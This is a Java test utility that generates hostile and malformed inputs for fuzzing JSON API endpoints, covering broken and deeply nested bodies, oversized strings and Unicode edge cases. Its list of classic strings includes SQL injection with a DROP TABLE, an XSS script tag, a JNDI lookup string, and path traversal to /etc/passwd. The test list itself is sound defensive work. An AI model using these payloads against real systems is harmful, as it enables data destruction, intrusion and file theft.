package org.conpaas.kit.test;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Collectors;

/**
 * A generated corpus of what attackers and broken clients send: malformed and wrongly typed
 * JSON, oversized and deeply nested documents, injection strings, and Unicode edge cases
 * (control characters, lone surrogates, right-to-left marks, zero-width joiners, emoji).
 */
public final class HostileInput {

    private static final List<String> CLASSICS = List.of(
            "' OR '1'='1", "'; DROP TABLE application; --", "<script>alert(1)</script>", "${jndi:ldap://x/a}",
            "../../etc/passwd", "%00", "\u0000", "\uD800", "\u202Eevil", "a\u200Db", "😀".repeat(70), "\t\n\r",
            "{{7*7}}", "null", "true", "-1", "1e309", "\\", "\"", " ");

    private HostileInput() {
    }

    /** Strings for a text field: the classics plus generated ones from the whole of Unicode. */
    public static List<String> strings(int generated) {
        Arbitrary<String> any = Arbitraries.strings().all().ofMinLength(0).ofMaxLength(300);
        List<String> all = new ArrayList<>(CLASSICS);
        all.addAll(any.sampleStream().limit(generated).toList());
        return all;
    }

    /** Whole request bodies that are not what an endpoint expects. */
    public static List<String> bodies(String field, int generated) {
        List<String> all = new ArrayList<>(List.of(
                "", "{", "}", "[]", "null", "42", "\"text\"", "{\"" + field + "\":}", "{\"" + field + "\":null}",
                "{\"" + field + "\":123}", "{\"" + field + "\":{}}", "{\"" + field + "\":[1,2]}", "{\"" + field + "\":true}",
                "{\"" + field + "\":\"x\",\"" + field + "\":\"y\"}", "[".repeat(5000) + "]".repeat(5000),
                "{\"a\":".repeat(3000) + "1" + "}".repeat(3000), "{\"" + field + "\":\"\\ud800\"}",
                "{\"" + field + "\":\"" + "x".repeat(100_000) + "\"}"));
        Arbitrary<String> garbage = Arbitraries.strings().withCharRange(' ', '~').ofMaxLength(200);
        all.addAll(garbage.sampleStream().limit(generated).toList());
        return all;
    }

    /** A string as a JSON string literal (escaping what JSON requires). */
    public static String json(String s) {
        return s.codePoints().mapToObj(c -> switch (c) {
            case '"' -> "\\\"";
            case '\\' -> "\\\\";
            default -> c < 0x20 || (c >= 0xD800 && c <= 0xDFFF) ? String.format("\\u%04x", c) : new String(Character.toChars(c));
        }).collect(Collectors.joining("", "\"", "\""));
    }
}
